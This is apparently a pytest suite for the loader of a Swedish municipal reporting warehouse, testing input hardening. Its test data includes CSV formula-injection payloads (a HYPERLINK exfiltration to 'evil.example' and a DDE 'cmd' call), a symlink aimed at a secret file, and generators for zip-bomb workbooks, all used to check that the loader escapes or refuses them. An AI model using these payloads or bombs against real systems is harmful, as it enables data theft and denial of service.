"""``ils load`` under contract version 2: new files, identifiers, and the hardening of the load.

Each test here fails on the loader of contract version 1 (the test names say
what it did wrong): formulas in the rejects file, special files in the load
directory, a second load that waited and failed with a misleading message,
checksums of the file as it was before it changed, a warning line per unknown
column, and workbooks that unpack to gigabytes.
"""

from __future__ import annotations

import csv
import hashlib
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from test_load import BASE, load_ok, snapshot

from ilslib import connect
from ilslib.errors import LoadBusyError
from ilslib.load import REJECTS_FILE, load_dir

PY = sys.executable


def ils(*args: str, timeout: float = 120, limit_as: int | None = None) -> subprocess.CompletedProcess[str]:
    """``ils ARGS`` in a subprocess; with ``limit_as``, under that address-space limit (bytes)."""
    if limit_as is None:
        cmd = [PY, "-m", "ilslib", *args]
    else:
        cmd = [
            PY,
            "-c",
            "import resource, sys\n"
            f"resource.setrlimit(resource.RLIMIT_AS, ({limit_as}, {limit_as}))\n"
            "from ilslib.cli import main\n"
            "sys.exit(main(sys.argv[1:]))\n",
            *args,
        ]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=timeout, env=dict(os.environ))


def rejects_rows(directory: Path) -> list[list[str]]:
    with (directory / REJECTS_FILE).open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


# -- the new files and the identifier rule ----------------------------------------------------------


def test_users_and_deadlines_load_and_read_back(wh, tmp_path):
    from ilslib.rights import login

    load_ok(wh, BASE)
    d = tmp_path / "v2"
    d.mkdir()
    # Once users names an admin the owner no longer acts as one: the login loading again is named admin too.
    me = login(wh)
    (d / "users.csv").write_text(
        "user_id;name;email;role;org_id;valid_to\n"
        "anna.a;Anna Åberg;anna@stad.se;reporter;0200;\n"
        "anna.a;Anna Åberg;anna@stad.se;controller;0110;2026-12-31\n"
        'bo.b;Bo <Berg> & "Co";;admin;;\n'
        "cia.c;Cia;cia@stad.se;reader;;\n"
        f"{me};Jag;;admin;;\n",
        encoding="utf-8",
    )
    (d / "deadlines.csv").write_text(
        "period;kind;deadline\n2026-T2;;2026-09-15\n2026-T2;bolag;2026-09-08\n", encoding="utf-8"
    )
    result = load_ok(wh, d)
    assert {f.name: f.inserted for f in result.files} == {"users.csv": 5, "deadlines.csv": 2}
    assert sorted(
        wh.rows("SELECT user_id, name, email, role, org_id, valid_to FROM v_user WHERE user_id <> ?", (me,)), key=repr
    ) == sorted(
        [
            ("anna.a", "Anna Åberg", "anna@stad.se", "reporter", "0200", None),
            ("anna.a", "Anna Åberg", "anna@stad.se", "controller", "0110", "2026-12-31"),
            ("bo.b", 'Bo <Berg> & "Co"', None, "admin", None, None),  # no organisation: NULL in the view
            ("cia.c", "Cia", "cia@stad.se", "reader", None, None),
        ],
        key=repr,
    )
    assert sorted(wh.rows("SELECT period, kind, deadline FROM v_deadline"), key=lambda r: r[2]) == [
        ("2026-T2", "bolag", "2026-09-08"),
        ("2026-T2", None, "2026-09-15"),  # every kind
    ]
    assert wh.scalar("SELECT COUNT(*) FROM ils_user WHERE org_id = ?", ("",)) == 3  # stored as '' (a key part)
    again = load_ok(wh, d)
    assert (again.inserted, again.replaced) == (0, 7)


def test_identifiers_are_normalised_and_references_compare_normalised(wh, tmp_path):
    d = tmp_path / "nfc"
    d.mkdir()
    nfd = "SDN_O\u0308ST"  # O + COMBINING DIAERESIS, as some systems export Ö
    (d / "organisations.csv").write_text(
        f"org_id;name;kind;parent_id\n0001;Staden;kommun;\n {nfd} ;Östra;namnd;0001\n", encoding="utf-8"
    )
    (d / "ledger.csv").write_text(
        "org_id;month;account;kind;outcome;budget;forecast\n"
        "SDN_ÖST;2026-01;3010;intakt;;100;\n"  # NFC in this file: the same organisation; outcome not booked
        f"{nfd};2026-01;4010;kostnad;-250,5;-1;\n",  # a credit: negative amounts are accepted
        encoding="utf-8",
    )
    load_ok(wh, d)
    assert sorted(r[0] for r in wh.rows("SELECT org_id FROM v_organisation")) == ["0001", "SDN_ÖST"]
    assert wh.scalar("SELECT org_id FROM v_organisation WHERE org_id <> ?", ("0001",)) == "SDN_\u00d6ST"
    assert sorted(wh.rows("SELECT org_id, account, outcome, budget FROM v_ledger")) == [
        ("SDN_ÖST", "3010", None, 100.0),  # NULL, never 0
        ("SDN_ÖST", "4010", -250.5, -1.0),
    ]


# -- formulas in the rejects file (v1 wrote them as they came) -------------------------------------


def test_rejects_file_cells_are_never_formulas(wh, tmp_path):
    d = tmp_path / "inject"
    d.mkdir()
    with (d / "organisations.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(
            [
                ["org_id", "name", "kind"],
                ["X1", "Ett", '=HYPERLINK("http://evil.example/?"&A1;"klicka")'],
                ["X2", "Två", "+cmd|' /C calc'!A0"],
                ["X3", "Tre", "@SUM(1+1)"],
                ["X4", "Fyra", "-2+3"],
                ["X5", "Fem", "\tTAB"],
            ]
        )
    (d / "=cmd.csv").write_text("x\n1\n", encoding="utf-8")
    result = load_dir(wh, d)
    assert not result.ok
    rows = rejects_rows(d)
    values = {r[1]: r[3] for r in rows[1:] if r[0] == "organisations.csv"}
    assert values == {
        "2": '\'=HYPERLINK("http://evil.example/?"&A1;"klicka")',
        "3": "'+cmd|' /C calc'!A0",
        "4": "'@SUM(1+1)",
        "5": "'-2+3",
        "6": "'\tTAB",
    }
    assert [r[0] for r in rows[1:] if r[0].endswith("cmd.csv")] == ["'=cmd.csv"]
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (
                cell.startswith("-") and not cell[1:].replace(",", "").isdigit()
            ), cell
    # The reasons keep the value readable: it is quoted there, not evaluated.
    assert {r[1]: r[4] for r in rows[1:]}["3"].startswith("unknown code \"+cmd|' /C calc'!A0\": expected one of")


# -- special files in the load directory (v1: a FIFO hung, /dev/zero looped, a link was followed) ---


def test_only_regular_files_inside_the_directory_are_read(wh_url, backend, tmp_path):
    if backend != "sqlite":
        pytest.skip("a property of the directory, not of the backend: exercised on the embedded one")
    secret = tmp_path / "secret.csv"
    secret.write_text("hemligt-lösenord;x\n1;2\n", encoding="utf-8")
    d = tmp_path / "special"
    d.mkdir()
    os.mkfifo(d / "ledger.csv")
    os.symlink("/dev/zero", d / "organisations.csv")
    os.symlink(secret, d / "goals.csv")
    (d / "indicators.csv").write_text("indicator_id;name;unit;direction\nIND01;Ett;%;higher\n", encoding="utf-8")
    started = time.monotonic()
    proc = ils("load", str(d), "--warehouse", wh_url, timeout=60)
    assert time.monotonic() - started < 30
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    rows = rejects_rows(d)
    reasons = {r[0]: r[4] for r in rows[1:]}
    assert reasons["ledger.csv"] == "a named pipe (FIFO), not a regular file: only regular files are loaded"
    assert reasons["organisations.csv"].startswith("a symbolic link to /dev/zero: only regular files inside")
    assert reasons["goals.csv"].startswith(f"a symbolic link to {secret}: only regular files inside")
    everything = (d / REJECTS_FILE).read_text(encoding="utf-8-sig") + proc.stdout + proc.stderr
    assert "hemligt" not in everything  # the linked file is never opened
    with connect(wh_url) as wh:
        assert wh.scalar("SELECT COUNT(*) FROM v_indicator") == 0
        files = dict(wh.rows("SELECT file_name, sha256 FROM v_load_file"))
    assert files["indicators.csv"] == hashlib.sha256((d / "indicators.csv").read_bytes()).hexdigest()
    assert files["goals.csv"] == "-"  # not even read for a checksum


def test_a_regular_file_is_opened_without_following_a_link_swapped_in(tmp_path):
    """The check is made on the open file itself: a link put in place after the directory was listed is refused."""
    from ilslib.readers import FileProblem, open_source

    os.symlink("/dev/zero", tmp_path / "ledger.csv")
    with pytest.raises(FileProblem, match="a symbolic link"):
        open_source(tmp_path / "ledger.csv")
    os.mkfifo(tmp_path / "pipe.csv")
    with pytest.raises(FileProblem, match="not a regular file"):
        open_source(tmp_path / "pipe.csv")


# -- the checksum is of the bytes read (v1: of the file before it changed) ----------------------------


class _ChangeWhileLoading:
    """A progress that rewrites the end of a file right after the loader opened it."""

    def __init__(self, path: Path):
        self.path = path

    def start(self, name: str, total: int | None) -> None:
        if name == self.path.name:
            with self.path.open("r+b") as fh:
                fh.seek(-len(b"1;1\n"), os.SEEK_END)
                fh.write(b"7;7\n")

    def advance(self, rows: int) -> None:
        pass

    def done(self, result) -> None:
        pass


def test_a_file_changed_while_it_is_loaded_is_recorded_as_it_was_read(wh, tmp_path):
    d = tmp_path / "changing"
    d.mkdir()
    (d / "organisations.csv").write_text("org_id;name;kind\n0200;N;namnd\n", encoding="utf-8")
    ledger = d / "ledger.csv"
    rows = 60_000  # more than the reader's first block, so the end is read after the change
    with ledger.open("w", encoding="utf-8") as fh:
        fh.write("org_id;month;account;kind;budget;outcome\n")
        for i in range(rows - 1):
            fh.write(f"0200;2026-01;{100000 + i};intakt;1;1\n")
        fh.write("0200;2026-01;999999;intakt;1;1\n")
    before = hashlib.sha256(ledger.read_bytes()).hexdigest()
    result = load_dir(wh, d, progress=_ChangeWhileLoading(ledger))
    assert result.ok, result.rejects[:3]
    after = hashlib.sha256(ledger.read_bytes()).hexdigest()
    assert after != before
    recorded = wh.scalar("SELECT sha256 FROM v_load_file WHERE file_name = ?", ("ledger.csv",))
    assert recorded == after  # what was read and stored ...
    assert wh.rows("SELECT budget, outcome FROM v_ledger WHERE account = ?", ("999999",)) == [(7.0, 7.0)]  # ... is this


# -- many unknown columns (v1: a warning line each) ----------------------------------------------------


def test_unknown_columns_are_summarised_in_one_line(wh_url, backend, tmp_path):
    if backend != "sqlite":
        pytest.skip("the same loader on every backend: exercised on the embedded one")
    d = tmp_path / "wide"
    d.mkdir()
    n = 100_000
    header = ["org_id", "name", "kind"] + [f"x{i}" for i in range(n)]
    with (d / "organisations.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, delimiter=";")
        w.writerow(header)
        w.writerow(["0200", "Nämnd", "namnd"] + [""] * n)
        w.writerow(["0300", "Nämnd 2", "namnd"] + ["1"] * n)
    proc = ils("load", str(d), "--warehouse", wh_url)
    assert proc.returncode == 0, proc.stderr[-2000:]
    lines = proc.stdout.splitlines()
    assert len(lines) < 20, len(lines)
    assert "Warnings (1):" in proc.stdout
    assert (
        "  organisations.csv: 100 000 unknown columns ignored: 'x0' (column D), 'x1' (column E), 'x2' (column F), "
        "'x3' (column G), 'x4' (column H) and 99 995 more"
    ) in lines
    with connect(wh_url) as wh:
        assert wh.scalar("SELECT COUNT(*) FROM v_organisation") == 2


# -- two loads at once (v1: 19 s then 'database is locked'; PostgreSQL: 46 s then 'duplicate key') ----


def _big_ledger(directory: Path, rows: int) -> Path:
    directory.mkdir()
    (directory / "organisations.csv").write_text("org_id;name;kind\n0200;Nämnd;namnd\n", encoding="utf-8")
    with (directory / "ledger.csv").open("w", encoding="utf-8") as fh:
        fh.write("org_id;month;account;kind;outcome;budget\n")
        fh.write(
            "".join(
                f"0200;{2000 + i // 120000}-{1 + i // 10000 % 12:02d};{i % 10000};intakt;1;1\n" for i in range(rows)
            )
        )
    return directory


def _wait_until_writing(proc: subprocess.Popen, wh_url: str, backend: str) -> None:
    deadline = time.monotonic() + 120
    with connect(wh_url) as wh:
        while time.monotonic() < deadline and proc.poll() is None:
            if backend == "sqlite":
                wal = Path(wh_url[len("sqlite:///") :] + "-wal")
                if wal.exists() and wal.stat().st_size > 4 * 2**20:
                    return
            elif wh.scalar(
                "SELECT COUNT(*) FROM pg_stat_activity WHERE state = ? AND query LIKE ? AND pid <> pg_backend_pid()",
                ("active", "INSERT INTO ils_ledger%"),
            ):
                return
            time.sleep(0.05)
    pytest.fail("the first load did not start writing")


@pytest.mark.slow
def test_a_second_load_says_at_once_that_another_load_is_writing(wh, wh_url, backend, tmp_path):
    if backend == "odbc-sqlite":
        pytest.skip("the same SQLite file locking as the embedded backend")
    load_ok(wh, BASE)
    wh.close()
    big = _big_ledger(tmp_path / "big", 1_200_000)
    first = subprocess.Popen(
        [PY, "-m", "ilslib", "load", str(big), "--warehouse", wh_url, "-q"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=dict(os.environ),
    )
    try:
        _wait_until_writing(first, wh_url, backend)
        started = time.monotonic()
        second = ils("load", str(BASE), "--warehouse", wh_url, timeout=60)
        took = time.monotonic() - started
        assert first.poll() is None, "the first load ended before the second one tried"
        assert second.returncode == 3, second.stdout + second.stderr
        assert took < 10, f"the second load took {took:.1f} s to give up"
        err = second.stderr.strip().splitlines()
        assert err == [
            f"ils: error: another load is writing into the warehouse {wh_url}: nothing was loaded; "
            "load again when it has finished, or wait for it with --wait SECONDS"
        ]
        assert "Traceback" not in second.stdout
        # Waiting (bounded, announced) instead: the second load runs when the first has committed.
        waiting = subprocess.Popen(
            [PY, "-m", "ilslib", "load", str(BASE), "--warehouse", wh_url, "-q", "--wait", "300"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=dict(os.environ),
        )
        out, err_text = waiting.communicate(timeout=400)
        assert waiting.returncode == 0, err_text
        assert "another load is writing into the warehouse: waiting for it to finish (at most 300 s)" in err_text
        assert first.wait(timeout=400) == 0, first.stderr.read() if first.stderr else ""
    finally:
        if first.poll() is None:
            first.send_signal(signal.SIGKILL)
            first.wait()
    with connect(wh_url) as w:
        outcomes = [r[0] for r in w.rows("SELECT outcome FROM v_load ORDER BY started_at")]
        assert outcomes == ["ok", "ok", "ok"]  # no record for the load that gave up at once
        assert w.scalar("SELECT COUNT(*) FROM v_ledger") == 1_200_000 + 5


def test_the_load_lock_is_released_by_a_rollback_and_by_the_end_of_a_load(wh, wh_url):
    """In one process: a load holding the lock makes another connection's load busy, then not."""
    load_ok(wh, BASE)
    from ilslib.load import take_load_lock

    with connect(wh_url) as other:
        with wh.transaction():
            take_load_lock(wh)
            with pytest.raises(LoadBusyError, match="another load is writing"):
                load_dir(other, BASE)
        before = snapshot(other)
        load_ok(other, BASE)  # free again after the rollback
        assert snapshot(other) == before


# -- workbooks that unpack to gigabytes (v1: over 3 GB of memory, or a MemoryError traceback) --------


def _write_zip_member(zf: zipfile.ZipFile, name: str, parts) -> None:
    info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w", force_zip64=True) as fh:
        for part in parts:
            fh.write(part)


def _bomb(path: Path, sheet_parts, shared_parts=None) -> Path:
    """A minimal workbook (one sheet) whose parts are written in pieces, deflated."""
    ct = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        + (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            if shared_parts
            else ""
        )
        + "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    )
    workbook = (
        '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    wb_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        + (
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            if shared_parts
            else ""
        )
        + "</Relationships>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", ct)
        zf.writestr("_rels/.rels", rels)
        zf.writestr("xl/workbook.xml", workbook)
        zf.writestr("xl/_rels/workbook.xml.rels", wb_rels)
        if shared_parts:
            _write_zip_member(zf, "xl/sharedStrings.xml", shared_parts)
        _write_zip_member(zf, "xl/worksheets/sheet1.xml", sheet_parts)
    return path


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<sheetData>"
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>org_id</t></is></c><c r="B1" t="inlineStr"><is><t>name</t></is></c>'
    b'<c r="C1" t="inlineStr"><is><t>kind</t></is></c></row>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _wide_rows(n: int):
    """Rows with a value in A and one in the last column, XFD: a reader that pads rows makes 16 384 cells each."""
    yield _SHEET_HEAD
    for start in range(2, n + 2, 5000):
        yield b"".join(
            b'<row r="%d"><c r="A%d"><v>1</v></c><c r="XFD%d"><v>1</v></c></row>' % (r, r, r)
            for r in range(start, min(start + 5000, n + 2))
        )
    yield _SHEET_TAIL


def _huge_shared_strings(count: int):
    yield b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    block = b"<si><t>x</t></si>" * 100_000
    for _ in range(count // 100_000):
        yield block
    yield b"</sst>"


def _repeated_row(n: int):
    yield _SHEET_HEAD
    row = b'<row><c t="inlineStr"><is><t>0200</t></is></c><c t="inlineStr"><is><t>N</t></is></c><c t="inlineStr"><is><t>namnd</t></is></c></row>'
    for _ in range(n // 10_000):
        yield row * 10_000
    yield _SHEET_TAIL


BOMBS = {
    # name: (how to make it, what the reject says)
    "wide_rows": (
        lambda p: _bomb(p, _wide_rows(30_000)),
        "the row has 16384 cells but the header names only 3 columns",
    ),
    "huge_shared_strings": (
        lambda p: _bomb(
            p,
            [_SHEET_HEAD, b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>', _SHEET_TAIL],
            _huge_shared_strings(12_000_000),
        ),
        "refused",
    ),
    "repeated_row": (
        lambda p: _bomb(p, _repeated_row(3_000_000)),
        "refused",
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_workbook_that_unpacks_to_gigabytes_is_refused_in_one_line(bomb, wh_url, backend, tmp_path):
    if backend != "sqlite":
        pytest.skip("reading a workbook does not depend on the backend")
    d = tmp_path / bomb
    d.mkdir()
    make, reason = BOMBS[bomb]
    path = make(d / "organisations.xlsx")
    assert path.stat().st_size < 3 * 2**20  # a small file ...
    unpacked = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    started = time.monotonic()
    proc = ils("load", str(d), "--warehouse", wh_url, "--show", "3", timeout=300, limit_as=1536 * 2**20)
    took = time.monotonic() - started
    assert proc.returncode == 1, proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr and "MemoryError" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1].startswith("ils: error: load rejected: ")
    first = rejects_rows(d)[1]
    assert first[0] == "organisations.xlsx" and reason in first[4], first
    assert took < 120, f"{took:.0f} s for a workbook of {unpacked / 2**20:.0f} MiB unpacked"
    with connect(wh_url) as wh:
        assert wh.scalar("SELECT COUNT(*) FROM v_organisation") == 0


def test_workbook_limits_are_checked_before_unpacking(tmp_path):
    from ilslib.readers import FileProblem, XlsxLimits, XlsxSource

    wb = openpyxl.Workbook()
    wb.active.append(["org_id", "name", "kind"])
    for i in range(2000):
        wb.active.append([f"{i:04d}", "Nämnd " * 20, "namnd"])
    wb.save(tmp_path / "organisations.xlsx")
    source = XlsxSource(tmp_path / "organisations.xlsx")  # within the default limits
    assert source.header == ["org_id", "name", "kind"]
    source.close()
    for limits, message in [
        (XlsxLimits(file_bytes=1000), "at most 0.0 MiB are loaded"),
        (XlsxLimits(members=3), "parts; a workbook of the contract has far fewer"),
        (XlsxLimits(total_bytes=10_000), "the workbook unpacks to"),
        (XlsxLimits(ratio=2, ratio_from=1000), "more than 2 times its size"),
        (XlsxLimits(cells=100), "the first sheet has more than 100 cells"),
    ]:
        with pytest.raises(FileProblem, match=message):
            s = XlsxSource(tmp_path / "organisations.xlsx", limits)
            list(s.rows(lambda p: None))


def test_a_period_with_nothing_booked_has_no_income_rather_than_zero(wh, tmp_path):
    """``ledger.outcome`` empty = not booked: the economy shows it as missing, never as 0 kr."""
    from ilslib.figures.economy import economy

    d = tmp_path / "unbooked"
    d.mkdir()
    (d / "organisations.csv").write_text("org_id;name;kind\nN;Nämnd;namnd\nM;Nämnd 2;namnd\n", encoding="utf-8")
    (d / "ledger.csv").write_text(
        "org_id;month;account;kind;outcome;budget\n"
        "N;2026-01;3010;intakt;;100\nN;2026-01;4010;kostnad;;80\n"
        "M;2026-01;3010;intakt;10;100\nM;2026-01;4010;kostnad;;80\n",
        encoding="utf-8",
    )
    load_ok(wh, d)
    e = economy(wh, "2026-T1")
    assert e.loc["N", "budget_net"] == 20.0
    assert e.loc["N", ["income", "costs", "net", "deviation"]].isna().all()
    assert (e.loc["M", "income"], e.loc["M", "costs"]) == (10.0, 0.0)


def test_a_named_sheet_of_a_workbook_can_be_read(tmp_path):
    """The reader takes a sheet by name: the way a reporting workbook (a sheet per contract file) is read."""
    from ilslib.readers import FileProblem, XlsxSource

    wb = openpyxl.Workbook()
    wb.active.title = "Instruktioner"
    wb.active.append(["Fyll i flikarna"])
    ws = wb.create_sheet("outcomes")
    ws.append(["org_id", "indicator_id", "period", "value"])
    ws.append(["0200", "IND01", "2026-T2", 81.5])
    wb.save(tmp_path / "inrapportering.xlsx")
    source = XlsxSource(tmp_path / "inrapportering.xlsx", sheet="outcomes")
    assert source.header == ["org_id", "indicator_id", "period", "value"]
    assert list(source.rows(lambda p: None)) == [(2, ["0200", "IND01", "2026-T2", "81.5"])]
    source.close()
    with pytest.raises(FileProblem, match="the workbook has no sheet 'ledger' \\(it has Instruktioner, outcomes\\)"):
        XlsxSource(tmp_path / "inrapportering.xlsx", sheet="ledger")


def test_other_spreadsheets_named_xlsx_give_a_clear_reason(tmp_path):
    from ilslib.readers import FileProblem, XlsxSource

    (tmp_path / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    with pytest.raises(FileProblem, match=r"^an old Excel workbook \(.xls\) named .xlsx: save it as .xlsx"):
        XlsxSource(tmp_path / "old.xlsx")
    with zipfile.ZipFile(tmp_path / "calc.xlsx", "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", "<office:document-content/>")
    with pytest.raises(FileProblem, match=r"^an OpenDocument spreadsheet \(.ods\) named .xlsx"):
        XlsxSource(tmp_path / "calc.xlsx")
